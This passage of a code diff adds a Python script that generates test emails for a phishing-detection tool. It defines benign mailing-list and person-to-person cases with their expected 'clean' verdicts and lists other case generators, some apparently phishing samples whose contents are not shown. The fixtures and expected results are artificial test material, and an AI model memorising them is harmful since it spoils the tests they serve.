+        "List-Help: <mailto:users-request@lists.example.org?subject=help>",
+        "List-Unsubscribe: <https://lists.example.org/mailman/options/users>,"
+        "\n <mailto:users-request@lists.example.org?subject=unsubscribe>",
+        "List-Archive: <https://lists.example.org/archives/users/>",
+        "Precedence: list",
+        "Sender: \"users\" <users-bounces@lists.example.org>",
+        "Errors-To: users-bounces@lists.example.org",
+    ]
+    body = text_part(
+        "Jane Doe <" + VICTIM + "> writes:\n\n> Is there a way to run it "
+        "over a whole mbox file?\n\nSplit it first, e.g. with formail:\n\n"
+        "  formail -ds sh -c 'cat > msg.$FILENO' < archive.mbox\n\nthen run "
+        "the binary over the files. The wiki has a longer example:\n"
+        "https://wiki.example.org/mailscope/BatchRuns\n\nKarl\n"
+        "_______________________________________________\nusers mailing "
+        "list\nusers@lists.example.org\n"
+        "https://lists.example.org/mailman/listinfo/users\n", cte="7bit")
+    write_case("benign_mailing_list", mail(h, body), {"phishing": {
+        "verdict": "clean",
+        "signals": no_signals("reply_to_mismatch", "links_elsewhere",
+                              "recipient_in_text")}},
+        "A mailing-list post (Mailman): From a member at example.net, "
+        "Reply-To the list at example.org, links elsewhere. List-Id and "
+        "List-Post make it a list post, so neither reply_to_mismatch nor "
+        "links_elsewhere applies; the quoted attribution line names an "
+        "address but greets no one.")
+
+
+def benign_person_to_person():
+    date = "Sun, 14 Apr 2024 20:13:44 +0200"
+    h = received([
+        ("mx1.example.com", "mx1.example.com", "192.0.2.25",
+         "mbox1.example.com (Postfix)", "ESMTPS", "6F1C3A0916", VICTIM,
+         "Sun, 14 Apr 2024 18:13:47 +0000"),
+        ("mail.example.org", "mail.example.org", "198.51.100.14",
+         "mx1.example.com (Postfix)", "ESMTPS", "4VHTd54kqz1y", VICTIM,
+         "Sun, 14 Apr 2024 18:13:47 +0000"),
+        ("[192.168.1.23]", "p5b0c1d2e.dip0.example.org", "198.51.100.201",
+         "mail.example.org (Postfix)", "ESMTPSA", "A2B4C6D8E0", None,
+         "Sun, 14 Apr 2024 18:13:45 +0000"),
+    ]) + [
+        auth("spf=pass smtp.mailfrom=example.org;\n\tdkim=pass "
+             "header.d=example.org;\n\tdmarc=pass header.from=example.org"),
+        "Message-ID: <3e9a7c1b-5d2f-4e8a-b6c0-1f2e3d4c5b6a@example.org>",
+        "Date: " + date,
+        "From: Mark Jensen <mark.jensen@example.org>",
+        "To: Jane Doe <%s>" % VICTIM,
+        "Subject: Hiking on Saturday?",
+        "User-Agent: Mozilla Thunderbird",
+    ]
+    body = text_part(
+        "Hi Jane,\n\nthe weather looks good for Saturday. Shall we do the "
+        "ridge trail again?\nWe could meet at the car park at 9 and be back "
+        "by 3. Tom might join us.\n\nLet me know,\nMark\n", cte="7bit")
+    write_case("benign_person_to_person", mail(h, body), {"phishing": {
+        "verdict": "clean", "risk": 0, "signals": [], "score": 0}},
+        "A plain mail between two people: nothing to find, risk 0, no "
+        "signal, SpamScope score 0.")
+
+
+# ---- main -------------------------------------------------------------------
+
+ALL = [bit_mail_body, bit_urls_body, bit_text_attachment, bit_urls_attachment,
+       bit_filename, bit_filename_in_zip, bit_mail_from, bit_mail_subject,
+       bit_mail_form, bit_mail_body_words_apart,
+       bit_mail_subject_accented,
+       m365_password_expiry, dhl_parcel_fee, bank_idn_homograph,
+       html_attachment_page, zip_pdf_exe, encrypted_zip_password,
+       signal_link_tricks, signal_prize_free_mail, signal_bec_headers,
+       signal_obfuscated_sender, signal_macro_invoice, signal_pdf_javascript,
+       signal_disk_image,
+       benign_retail_newsletter, benign_paypal_receipt, benign_mailing_list,
+       benign_person_to_person]
+
+
+def main():
+    only = sys.argv[1:]
+    for f in ALL:
+        if only and f.__name__ not in only:
+            continue
+        f()
+    for name in WRITTEN:
+        print("wrote", name)
+
+
+if __name__ == "__main__":
+    main()
